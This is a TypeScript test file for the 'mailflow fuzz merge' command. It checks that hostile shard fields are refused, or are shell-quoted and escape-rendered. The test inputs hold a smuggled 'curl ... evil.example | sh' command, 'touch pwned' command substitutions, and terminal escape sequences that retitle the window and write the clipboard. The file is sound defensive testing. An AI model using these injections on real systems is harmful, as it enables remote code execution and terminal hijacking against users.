// `mailflow fuzz merge` prints what the shards say, and a shard is a file anyone may have handed over. The security
// review planted a counterexample `x.yaml; curl ... | sh #`, printed in a "replay it:" line to paste into a shell,
// and problems and an offender with escape sequences that retitled the terminal and wrote the clipboard.
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { XMLParser } from 'fast-xml-parser';
import { beforeAll, describe, expect, it } from 'vitest';
import { mailflow, repoRoot } from '../../helpers/cli.js';
import { runSeed } from '../../../harness/fuzz/fuzz-seed.js';

const tmp = mkdtempSync(join(tmpdir(), 'mailflow-shard-text-'));

/** What a terminal would obey in this output: C0 controls but line breaks and tabs, DEL, C1, bidi controls. */
function controlsIn(text: string): string[] {
  return [...text.matchAll(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g)].map((m) => m[0]);
}

let clean: Record<string, unknown>;

beforeAll(() => {
  // A real shard (one that passed), made into a failing one as a hand-edited file would be: consistent, so only
  // the fields under test decide.
  const run = mailflow('fuzz', '--seed', '1', '--runs', '5', '--json', '--no-progress', '--out', join(tmp, 'never-written'));
  expect(run.status).toBe(0);
  clean = JSON.parse(run.stdout) as Record<string, unknown>;
});

function failingShard(name: string, fields: Record<string, unknown>): string {
  const file = join(tmp, name);
  writeFileSync(file, JSON.stringify({
    ...clean, failures: 1, failingRun: 0, failingSeed: runSeed(clean['seed'] as number, 0), shrinkSteps: 3,
    counterexample: 'fuzz-out/fuzz-1-run-0.yaml', problems: ['no-lost-mail: fail, 1 accepted copy lost'], firstOffender: [], ...fields,
  }));
  return file;
}

describe('fuzz merge on a shard of hostile text', () => {
  it('refuses a counterexample quoting cannot make harmless (control characters, an option, no .yaml file), naming the shard file and the field', () => {
    for (const planted of ['fuzz-out/x.yaml; curl -s https://evil.example/x | sh #', 'fuzz-out/x\n.yaml', 'fuzz-out/\u001b]0;x\u0007.yaml', 'fuzz-out/\u202ex.yaml',
      '--report=/tmp/x.yaml', 'fuzz-out/x.json', 'fuzz-out/x.yaml\t', 42]) {
      const shard = failingShard('planted.json', { counterexample: planted });
      const merged = mailflow('fuzz', 'merge', shard);
      expect(merged.status, String(planted)).toBe(2);
      expect(merged.stdout, String(planted)).toBe('');
      expect(merged.stderr.startsWith(`${shard}: counterexample: `), merged.stderr).toBe(true);
      expect(controlsIn(merged.stderr), String(planted)).toEqual([]);
    }
  });

  it('prints a counterexample holding shell syntax as one quoted word, which a shell does not run', () => {
    const planted = "fuzz-out/x.yaml; touch pwned; $(touch pwned2) `touch pwned3` it's.yaml";
    const merged = mailflow('fuzz', 'merge', failingShard('syntax.json', { counterexample: planted }));
    expect(merged.status).toBe(1);
    const line = /^replay it: (mailflow run .*)$/m.exec(merged.stdout)?.[1] ?? '';
    // The shell reads the printed words back as they were written: `mailflow`, `run` and the path, nothing run.
    const cwd = mkdtempSync(join(tmpdir(), 'mailflow-paste-'));
    const words = execFileSync('sh', ['-c', `printf '%s\\n' ${line}`], { encoding: 'utf8', cwd });
    expect(words).toBe(`mailflow\nrun\n${planted}\n`);
    expect(readdirSync(cwd)).toEqual([]);
  });

  it('merges a plain path, quoting it in the replay line when it holds a space', () => {
    const plain = mailflow('fuzz', 'merge', failingShard('plain.json', {}));
    expect(plain.status).toBe(1);
    expect(plain.stdout).toMatch(/^replay it: mailflow run fuzz-out\/fuzz-1-run-0\.yaml$/m);
    const spaced = mailflow('fuzz', 'merge', failingShard('spaced.json', { counterexample: '/home/Müller/My Runs/fuzz-1-run-0.yaml' }));
    expect(spaced.status).toBe(1);
    expect(spaced.stdout).toContain("replay it: mailflow run '/home/Müller/My Runs/fuzz-1-run-0.yaml'");
  });

  it('prints a shard\'s problems and first offender with their escape sequences shown, not obeyed', () => {
    const shard = failingShard('escapes.json', {
      problems: ['\u001b]0;PWNED\u0007\u001b[2J\u001b[Hall good\u001b[8m', 'two\nlines'],
      firstOffender: ['\u001b]52;c;Y3VybCBldmlsfHNo\u0007'],
    });
    const merged = mailflow('fuzz', 'merge', shard);
    expect(merged.status).toBe(1);
    expect(controlsIn(merged.stdout + merged.stderr)).toEqual([]);
    expect(merged.stdout).toContain('  \\u001b]0;PWNED\\u0007\\u001b[2J\\u001b[Hall good\\u001b[8m\n');
    expect(merged.stdout).toContain('  two\\nlines\n');
    expect(merged.stdout).toContain('\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007');
  });

  it('refuses problems or a first offender that are not lists of text (they were printed, or crashed the merge)', () => {
    for (const fields of [{ problems: 'x' }, { problems: [{ a: 1 }] }, { firstOffender: [1, 2] }]) {
      const merged = mailflow('fuzz', 'merge', failingShard('typed.json', fields));
      expect(merged.status, JSON.stringify(fields)).toBe(2);
      expect(merged.stderr, JSON.stringify(fields)).toMatch(/not the --json output of mailflow fuzz: (problems|firstOffender) should be a list of text/);
    }
  });
});

describe('mailflow fuzz', () => {
  /** The arguments `mailflow` gets after `run` when the shell reads this command line, one per line, their number first. */
  function argumentsAfterRun(commandLine: string): string {
    const cwd = mkdtempSync(join(tmpdir(), 'mailflow-paste-'));
    const words = execFileSync('sh', ['-c', `mailflow() { shift; printf '%s\\n' "$#" "$@"; }; ${commandLine}`], { encoding: 'utf8', cwd });
    expect(readdirSync(cwd)).toEqual([]);
    return words;
  }

  it('quotes every replay line when --out holds a space and shell syntax: the summary\'s, the file\'s # Replay: header, the JUnit report\'s', () => {
    // A directory as people name them (the diff review's `R&D (1)`), with a space: unquoted, `&` ends the command.
    const out = join(tmp, 'R&D (1)', 'my runs');
    const junit = join(tmp, 'fuzz-junit.xml');
    const run = mailflow('fuzz', '--seed', '3', '--runs', '120', '--inject-bug', 'two-active-routers', '--no-progress', '--out', out, '--junit', junit);
    expect(run.status).toBe(1);
    const file = /^counterexample: (.+)$/m.exec(run.stdout)?.[1] ?? '';
    expect(file.startsWith(`${out}/`)).toBe(true);
    const replay = /^replay it: (mailflow run .+)$/m.exec(run.stdout)?.[1] ?? '';
    const header = /^# Replay: (.+)$/m.exec(readFileSync(file, 'utf8'))?.[1] ?? '';
    const xml = new XMLParser({ ignoreAttributes: false }).parse(readFileSync(junit, 'utf8')) as { testsuites: { testsuite: { testcase: { failure: { '#text': string } } } } };
    const junitReplay = /^replay: (.+)$/m.exec(xml.testsuites.testsuite.testcase.failure['#text'])?.[1] ?? '';
    for (const [where, line] of [['summary', replay], ['# Replay:', header], ['JUnit', junitReplay]]) {
      expect(line, where).toBe(replay);
      expect(argumentsAfterRun(line ?? ''), where).toBe(`1\n${file}\n`);
    }
    // The shell reads the quoted word back as the one path: `mailflow run` replays it to the same failure.
    const shell = spawnSync('sh', ['-c', `"$0" "$1" run ${replay.replace(/^mailflow run /, '')}`, process.execPath, join(repoRoot, 'dist/harness/cli/main.js')], { encoding: 'utf8' });
    expect(shell.status).toBe(1);
    expect(shell.stdout).toMatch(/FAIL no-duplicate-activity/);
  });
});
